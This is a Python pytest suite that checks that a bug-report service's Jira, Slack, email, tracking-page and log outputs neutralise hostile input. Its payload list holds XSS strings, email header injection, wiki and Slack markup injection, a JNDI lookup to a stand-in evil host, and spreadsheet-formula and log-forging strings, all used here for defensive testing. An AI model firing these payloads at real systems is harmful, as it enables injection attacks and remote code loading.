"""Promise 6: nothing that a person types can run, ping or forge; all the way from the request to what vendors get.

Rendering has its own tests of every medium's grammar. Here every field of every entrance is a weapon at once, and
what leaves Wilco is looked at as the vendor and the reader would.
"""

import html
import json
import re
from collections.abc import Callable
from email import message_from_bytes, policy
from email.message import EmailMessage
from typing import Any

import pytest
from chalice.test import Client

from app import app
from chalicelib.adapters.mime import mail_bytes
from chalicelib.model.case import Case
from chalicelib.store.cases import get_case, get_report
from tests.conftest import World
from tests.events import host_token, slack_request
from tests.pump import Pump
from tests.slack_forms import slack_form

WEAPONS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{noformat}\nh1. Pwned [~accountid:5b10a-erin] !http://evil.example/x.png!",
    "{code}{html}<b>x</b>{html}{code}",
    "<!channel> <!here> <@U0ERIN> <https://evil.example|Jira>",
    "```\n<!channel>\n```",
    "anna\r\nBcc: everybody@example.com\r\n\r\nHello",
    "=?utf-8?q?=0D=0ABcc:_x=40example.com?=",
    "%0d%0aBcc: everybody@example.com",
    "{{ 7 * 7 }} {% raw %} %(name)s {by} ${jndi:ldap://evil.example}",
    "[SHOP-1|javascript:alert(1)] [https://evil.example] www.evil.example",
    "\u202egnp.exe \u200b\ufeff\x00\x1b[31mred",
    '=HYPERLINK("http://evil.example")',
    '{"event":"report_accepted"}\n{"at":"forged"}',
]


class Scene:
    """One report in which everything that can be typed is a weapon, and what became of it."""

    def __init__(self, world: World, pump: Pump) -> None:
        self.world, self._pump, self._http = world, pump, Client(app).http

    def report(self, weapon: str) -> Case:
        body = {
            "key": "click-0001",
            "product": "shop",
            "trigger": {"area": "prices", "kind": "wrong-value", "label": weapon, "element": weapon},
            "place": {"url": f"https://shop.example/x?q={weapon}#{weapon}", "title": weapon},
            "client": {"browser": weapon, "os": weapon, "app_version": weapon, "viewport": weapon, "time_zone": weapon},
            "comment": weapon,
            "joins": weapon,
            "context": {
                "console": [{"level": "error", "text": weapon, "at": weapon[:40]}],
                "requests": [{"method": weapon[:40], "url": weapon, "status": 500, "at": weapon[:40]}],
            },
            "identity": host_token({"name": weapon, "locale": "en", "sub": weapon or "x"}),
        }
        answer = self._post("/v1/reports", json.dumps(body).encode(), {"Content-Type": "application/json"})
        receipt = json.loads(answer.body)
        report = get_report(receipt["report_id"])
        assert report is not None
        self.link = f"{report.id}.{report.token}"
        self._pump.run()
        self._post(f"/t/{self.link}", f"note={weapon}".encode(), {"Content-Type": "application/x-www-form-urlencoded"})
        self._post("/v1/slack/interactions", *slack_request(slack_form(report.case_id, weapon)))
        self._pump.run()
        case = get_case(report.case_id)
        assert case is not None
        return case

    def page(self) -> str:
        body: bytes = self._http.get(f"/t/{self.link}").body
        return body.decode()

    def _post(self, path: str, body: bytes, headers: dict[str, str]) -> Any:
        return self._http.post(path, headers=headers, body=body)


@pytest.fixture
def scene(world: World, pump: Pump) -> Scene:
    return Scene(world, pump)


every_weapon = pytest.mark.parametrize("weapon", WEAPONS, ids=range(len(WEAPONS)))


def outside_quotes(wiki: str) -> str:
    """What Jira reads as markup: all but what stands between two {noformat}."""
    parts = wiki.split("{noformat}")
    assert len(parts) % 2 == 1, "a quote has no end"
    return "".join(parts[::2])


@every_weapon
def test_jira(scene: Scene, weapon: str) -> None:
    scene.report(weapon)
    (kept,) = scene.world.jira.issues.values()
    texts = [kept.fields["description"], kept.fields.get("environment", ""), *(one.body for one in kept.comments)]
    for text in texts:
        markup = outside_quotes(text)
        assert not re.search(r"evil|accountid|javascript|<script|Pwned|\{(code|html)", markup), markup
    assert "\n" not in kept.fields["summary"]
    assert all(re.fullmatch(r"[\w.:-]+", label) for label in kept.fields["labels"])
    assert all(
        link.url.startswith(("https://wilco.example/", "https://slack.example/")) for link in kept.links.values()
    )


@every_weapon
def test_slack(scene: Scene, weapon: str) -> None:
    scene.report(weapon)
    for kept in scene.world.slack.messages:
        for text in [kept.message.text, *strings(kept.message.blocks)]:
            controls = re.findall(r"<[^>]*>", text)
            assert all(
                one.startswith(("<https://wilco.example/", "<https://shop.atlassian.example/")) for one in controls
            )
            assert text.count("```") in (0, 2)


@every_weapon
def test_mail(scene: Scene, weapon: str) -> None:
    scene.report(weapon)
    assert len(scene.world.mail.sent) == 2, "received, and the question"
    for mail in scene.world.mail.sent:
        parsed = message_from_bytes(mail_bytes(mail, "support@shop.example", None), policy=policy.default)
        assert isinstance(parsed, EmailMessage)
        assert parsed["To"].addresses[0].addr_spec == "anna@example.com"
        assert len(parsed["To"].addresses) == 1
        assert (parsed["Bcc"], parsed["Cc"]) == (None, None)
        check_page(mail.html, "https://wilco.example/")


@every_weapon
def test_the_tracking_page(scene: Scene, weapon: str) -> None:
    scene.report(weapon)
    check_page(scene.page(), "/", "https://wilco.example/", "?", "#")


@every_weapon
def test_logs(scene: Scene, weapon: str, capsys: pytest.CaptureFixture[str]) -> None:
    scene.report(weapon)
    for line in capsys.readouterr().out.splitlines():
        said = json.loads(line)
        assert {"at", "level", "event"} <= said.keys()
        assert said["at"] != "forged"
        assert "evil" not in line
        assert "anna" not in line


def check_page(page: str, *leads_to: str) -> None:
    """Nothing runs in it, nothing is loaded, and its links lead home."""
    assert "<script" not in page.lower()
    tags = re.findall(r"<[a-zA-Z][^>]*>", page)
    assert not [tag for tag in tags if re.search(r"\son\w+\s*=|javascript:", tag, re.IGNORECASE)]
    assert not [tag for tag in tags if re.match(r"<(img|iframe|object|embed|link|base)\b", tag, re.IGNORECASE)]
    targets = [html.unescape(one) for one in re.findall(r'\b(?:href|src|action)="([^"]*)"', page)]
    assert not [target for target in targets if target and not target.startswith(leads_to)]


def strings(part: object) -> list[str]:
    """Every mrkdwn text in these blocks."""
    if isinstance(part, dict):
        own = [part["text"]] if part.get("type") == "mrkdwn" else []
        return own + [text for value in part.values() for text in strings(value)]
    if isinstance(part, list | tuple):
        return [text for value in part for text in strings(value)]
    return []


def test_nothing_typed_becomes_another_address_in_the_table(scene: Scene) -> None:
    """A person's id and a case's key are never made of what is typed as it is."""
    case = scene.report("x#CASE\n../..")
    assert re.fullmatch(r"[a-z2-7]{13}-1", case.id)
    check: Callable[[str], object] = get_case
    assert check("x#CASE") is None
